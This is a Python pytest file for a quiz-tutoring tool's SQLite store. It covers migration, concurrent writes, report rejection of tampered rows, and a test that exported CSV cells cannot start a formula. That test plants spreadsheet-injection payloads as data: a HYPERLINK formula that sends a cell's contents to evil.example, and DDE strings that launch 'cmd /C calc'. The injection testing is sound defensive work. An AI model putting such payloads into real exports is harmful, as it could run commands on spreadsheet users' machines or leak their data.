"""The SQLite quiz store (practice): layout version and migration, two windows of one student,
the report refusing what the rules do not admit, and exports a spreadsheet cannot run."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor

import pytest

from tests.conftest import LESSONS, tutor, write
from tutor.core import report
from tutor.core.loader import catalog
from tutor.core.params import seed_of
from tutor.core.quiz import QuizRun, build_items, lessons_of
from tutor.core.quizstore import SCHEMA_V0, VERSION, QuizStore

CAT = catalog([LESSONS])
QUIZ = CAT.quizzes["landscapes-week1"].quiz
RISKY = ("=", "+", "-", "@", "\t", "\r")


def right(item) -> str:
    v = item.session.expected(item.q)
    return ", ".join(repr(float(x)) for x in v) if isinstance(v, list) else repr(float(v))


def test_a_store_of_the_first_layout_is_migrated_and_keeps_its_grades(tmp_path):
    db = tmp_path / "old.sqlite3"
    item = build_items(QUIZ, CAT, "olga")[0]  # the first layout's public seeds
    with sqlite3.connect(db) as c:
        c.executescript(SCHEMA_V0)
        c.execute("INSERT INTO runs VALUES ('landscapes-week1', 'olga', 1000.0, NULL)")
        c.execute("INSERT INTO submissions (quiz, student, question, attempt, seed, params, answer, correct, submitted_at) "
                  "VALUES ('landscapes-week1', 'olga', ?, 1, ?, ?, ?, 1, 1010.0)", (item.key, item.seed, '{}', right(item)))
        c.execute("UPDATE submissions SET params = ?", (__import__("json").dumps(item.params),))
    store = QuizStore(db)
    assert store.conn.execute("PRAGMA user_version").fetchone()[0] == VERSION
    assert store.seeds(QUIZ, "olga", lessons_of(QUIZ)) == {n: seed_of(QUIZ.id, "olga", n) for n in lessons_of(QUIZ)}
    rep = report.build(QUIZ, CAT, store)
    assert rep["students"]["olga"]["scores"][item.key] == item.points and not rep["refused"]


def test_fresh_stores_draw_from_their_own_secret(tmp_path):
    names = lessons_of(QUIZ)
    a, b = QuizStore(tmp_path / "a.sqlite3"), QuizStore(tmp_path / "b.sqlite3")
    assert a.seeds(QUIZ, "s1", names) != b.seeds(QUIZ, "s1", names), "a private store does not reproduce the class's numbers"
    assert a.seeds(QUIZ, "s1", names) != {n: seed_of(QUIZ.id, "s1", n) for n in names}
    assert QuizStore(tmp_path / "a.sqlite3").seeds(QUIZ, "s1", names) == a.seeds(QUIZ, "s1", names), "stable on return"


def test_a_newer_store_is_refused_by_name(tmp_path):
    db = tmp_path / "new.sqlite3"
    QuizStore(db)
    with sqlite3.connect(db) as c:
        c.execute("PRAGMA user_version = 99")
    r = tutor("quiz", "take", "landscapes-week1", "--student", "ann", "--plain", "--db", str(db), input=":quit\n")
    assert r.returncode == 2 and "newer tutor (layout 99" in r.stderr and "Traceback" not in r.stderr
    r = tutor("quiz", "report", "landscapes-week1", "--db", str(db))
    assert r.returncode == 2 and "newer tutor" in r.stderr


def test_the_same_student_in_six_windows_loses_nothing(tmp_path):
    """The review's S9: six processes of one student answering at once. Every answer is either
    stored and acknowledged ("Saved.") or refused with a message; none crashes."""
    db = tmp_path / "q.sqlite3"
    QuizStore(db)
    env = {**os.environ, "PYTHONIOENCODING": "utf-8", "TUTOR_QUIZ_DB": str(db)}

    def take(_k):
        return subprocess.run([sys.executable, "-m", "tutor", "quiz", "take", "landscapes-week1", "--student", "same", "--plain"],
                              input="12345\n" * 10, capture_output=True, text=True, env=env, timeout=300)

    with ThreadPoolExecutor(max_workers=6) as pool:
        results = list(pool.map(take, range(6)))
    for r in results:
        assert r.returncode in (0, 1), r.stderr
        assert "internal error" not in r.stderr and "Traceback" not in r.stderr
    with sqlite3.connect(db) as c:
        stored = c.execute("SELECT COUNT(*) FROM submissions").fetchone()[0]
        per_q = c.execute("SELECT question, group_concat(attempt) FROM submissions GROUP BY question").fetchall()
    assert stored == 10 and all(sorted(a.split(",")) == ["1", "2"] for _q, a in per_q)
    assert sum(r.stdout.count("Saved.") for r in results) == stored, "every acknowledged answer is stored, and only those"


def test_the_report_refuses_what_the_rules_do_not_admit(tmp_path):
    """The review's S1 and S2 on a store every student can write: the report cannot undo an edit,
    but it grades only what the rules admit and names the rest."""
    db = tmp_path / "q.sqlite3"
    store = QuizStore(db)
    now = [1_000_000.0]
    run = QuizRun(QUIZ, CAT, "carol", store, clock=lambda: now[0])
    for it in run.items[:2]:
        run.submit(it, right(it))
    honest = report.build(QUIZ, CAT, store)["students"]["carol"]["total"]
    assert honest > 0
    with sqlite3.connect(db) as c:
        # a late answer: a row added an hour after the 30-minute limit
        it = run.items[2]
        c.execute("INSERT INTO submissions (quiz, student, question, attempt, seed, params, answer, correct, submitted_at) "
                  "VALUES (?, 'carol', ?, 1, ?, ?, ?, 1, ?)", (QUIZ.id, it.key, it.seed, __import__("json").dumps(it.params), right(it), now[0] + 3600))
        # a fake student, and a third attempt
        c.execute("INSERT INTO runs VALUES (?, '=HYPERLINK(\"http://evil.example\",\"Bob\")', 0, NULL)", (QUIZ.id,))
        it = run.items[3]
        for k in (1, 2, 3):
            c.execute("INSERT INTO submissions (quiz, student, question, attempt, seed, params, answer, correct, submitted_at) "
                      "VALUES (?, 'carol', ?, ?, ?, ?, '0', 0, ?)", (QUIZ.id, it.key, k, it.seed, __import__("json").dumps(it.params), now[0] + 5))
    rep = report.build(QUIZ, CAT, store)
    assert rep["students"]["carol"]["total"] == honest
    reasons = [r["refused"] for r in rep["refused"]]
    assert any("over the 30-min limit" in r for r in reasons) and any("attempt 3 is not the next" in r for r in reasons)
    assert set(rep["students"]) == {"carol"} and rep["unknown_students"]
    r = tutor("quiz", "report", "landscapes-week1", "--db", str(db))
    assert r.returncode == 0 and "REFUSED 2 stored submissions" in r.stderr and "IGNORED" in r.stderr
    # deleting one's start row to reset the clock: the earlier answers are now before the start
    with sqlite3.connect(db) as c:
        c.execute("DELETE FROM runs WHERE student = 'carol'")
    now[0] += 7200
    QuizRun(QUIZ, CAT, "carol", store, clock=lambda: now[0])
    rep = report.build(QUIZ, CAT, store)
    assert sum("before the recorded start" in r["refused"] for r in rep["refused"]) >= 2


@pytest.mark.parametrize("fmt", ["csv", "canvas", "moodle", "log"])
def test_no_exported_cell_is_a_formula(tmp_path, fmt):
    db = tmp_path / "q.sqlite3"
    store = QuizStore(db)
    for s in ("ann", "ben"):
        run = QuizRun(QUIZ, CAT, s, store)
        run.submit(run.items[0], "12345")
    with sqlite3.connect(db) as c:
        c.execute("UPDATE submissions SET answer = '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")' WHERE student = 'ann'")
        c.execute("UPDATE submissions SET answer = '-2+3+cmd|'' /C calc''!A0' WHERE student = 'ben'")
        c.execute("INSERT INTO runs VALUES (?, '@SUM(1+1)', 0, NULL)", (QUIZ.id,))
    roster = write(tmp_path / "roster.csv", 'id,name,email,section\nann,"=cmd|\'/C calc\'!A0",+ann@x,@L1\nben,"\tBen","\rben@x",-L2\n')
    r = tutor("quiz", "report", "landscapes-week1", "--db", str(db), "--format", fmt, "--roster", str(roster), "--times")
    assert r.returncode == 0, r.stderr
    cells = [cell for row in csv.reader(io.StringIO(r.stdout)) for cell in row]
    assert cells and not [c for c in cells if c.startswith(RISKY)]
    if fmt in ("canvas", "moodle"):
        assert "'=cmd|'/C calc'!A0" in cells and "ann" in cells, "names and ids from the roster"
    if fmt == "log":
        assert any(c.startswith("'=HYPERLINK") for c in cells) and any(c.startswith("'-2+3") for c in cells)


def test_every_format_can_carry_submission_times(tmp_path):
    db = tmp_path / "q.sqlite3"
    run = QuizRun(QUIZ, CAT, "ann", QuizStore(db), clock=lambda: 1_750_000_000.0)
    run.submit(run.items[0], "1")
    run.finish()
    for fmt in ("csv", "canvas", "moodle", "log", "json"):
        r = tutor("quiz", "report", "landscapes-week1", "--db", str(db), "--format", fmt, "--times")
        assert r.returncode == 0 and ("2025-06-15T15:06:40Z" in r.stdout or "1750000000" in r.stdout), (fmt, r.stdout)
